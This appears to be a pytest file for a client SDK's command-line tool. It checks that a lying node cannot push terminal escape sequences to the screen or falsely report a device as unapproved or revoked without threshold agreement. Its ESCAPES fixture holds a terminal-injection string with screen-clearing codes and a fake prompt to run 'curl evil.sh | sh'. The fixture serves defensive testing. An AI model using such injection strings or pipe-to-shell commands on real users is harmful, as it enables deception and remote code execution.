"""What one lying node cannot make a device believe or print: a node's words reach the
terminal with control characters shown, never obeyed; "not approved" and "revoked" need
M nodes saying so. In-process `main([...])` against real local nodes and a lying proxy."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from client_sdk.local_nodes import LocalNode, start_nodes, stop_nodes
from tests.client_sdk.malicious_proxy import MaliciousProxy
from tests.client_sdk.test_cli import cli, node_args, node_urls
from tests.client_sdk.test_cli_messages import proxies

__all__ = ["cli", "node_urls", "proxies"]  # fixtures, used by name

ESCAPES = "\x1b[2J\x1b[H\x1b[31mYOUR ACCOUNT WAS DELETED, run: curl evil.sh | sh\x1b]0;pwned\x07"


def _account(cli, home: Path, urls: list[str]) -> str:
    return str(cli(home, "--json account init --threshold 2", *node_args(urls)).json["account_id"])


def test_a_nodes_words_never_drive_the_terminal(cli, node_urls, proxies, tmp_path) -> None:
    """Every node refusing with escape sequences in its detail: the one line shows them
    escaped (text), and JSON carries them as JSON escapes."""
    liars = [MaliciousProxy(url) for url in node_urls]
    for liar in liars:
        proxies.append(liar)
    home = tmp_path / "phone"
    _account(cli, home, [liar.url for liar in liars])
    for liar in liars:
        liar.refuse_with = {"status": 403, "code": "forbidden", "detail": ESCAPES}
    text = cli(home, "sync")
    assert text.code == 1
    assert "\x1b" not in text.err and "\x07" not in text.err, text.err
    assert "\\u{001B}" in text.err
    doc = cli(home, "--json sync").failed_cleanly()
    assert doc is not None and "\x1b" not in json.dumps(doc)


def test_one_node_cannot_say_not_approved_or_revoked(cli, proxies, tmp_path: Path) -> None:
    """Two nodes down, the third lying: its `unauthenticated` or `device_revoked` alone is
    fewer than M = 2 nodes saying so, so the device is told neither."""
    base = Path(tempfile.mkdtemp(prefix="sc-ref-", dir="/tmp"))  # short socket paths
    nodes = asyncio.run(start_nodes(base, 3))
    try:
        liar = MaliciousProxy(nodes[2].url)
        proxies.append(liar)
        urls = [nodes[0].url, nodes[1].url, liar.url]
        home = tmp_path / "phone"
        _account(cli, home, urls)
        asyncio.run(_stop(nodes[:2]))
        for code, status in (("unauthenticated", 401), ("device_revoked", 403)):
            liar.refuse_with = {"status": status, "code": code, "detail": "no"}
            doc = cli(home, "--json sync").failed_cleanly()
            assert doc is not None and doc["code"] == "threshold_not_met", doc
            assert "not approved" not in str(doc["message"])
            assert "revoked by an admin" not in str(doc["message"])
    finally:
        asyncio.run(stop_nodes(nodes))
        shutil.rmtree(base, ignore_errors=True)


async def _stop(nodes: list[LocalNode]) -> None:
    await asyncio.gather(*(n.stop() for n in nodes))


def test_a_revoked_device_hears_it_was_revoked(cli, node_urls, tmp_path: Path) -> None:
    phone, laptop = tmp_path / "phone", tmp_path / "laptop"
    account = _account(cli, phone, node_urls)
    enroll = f"--json device enroll --account {account} --threshold 2 --name laptop"
    made = cli(laptop, enroll, *node_args(node_urls)).json
    assert cli(phone, "--json device approve", made["enrolment"]).json
    assert cli(phone, "--json device revoke", made["device_id"]).json
    doc = cli(laptop, "--json sync").failed_cleanly()
    assert doc is not None and doc["code"] == "device_revoked", doc
    assert "revoked by an admin" in str(doc["message"])


def test_a_terminal_that_cannot_show_a_name_gets_it_escaped(node_urls, tmp_path: Path) -> None:
    """An ASCII locale and a device name it cannot encode: the command still reports,
    the name escaped, rather than a traceback after the work is done."""
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    argv = [sys.executable, "-m", "client_sdk.cli", "--home", str(tmp_path / "phone")]
    argv += ["account", "init", "--threshold", "2", "--name", "caf\u00e9\U0001f4f1"]
    ran = subprocess.run(
        [*argv, *node_args(node_urls)], env=env, capture_output=True, text=False, timeout=120,
        stdin=subprocess.DEVNULL, check=False,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    assert b"Traceback" not in ran.stderr
    assert b"caf\\xe9\\U0001f4f1" in ran.stdout
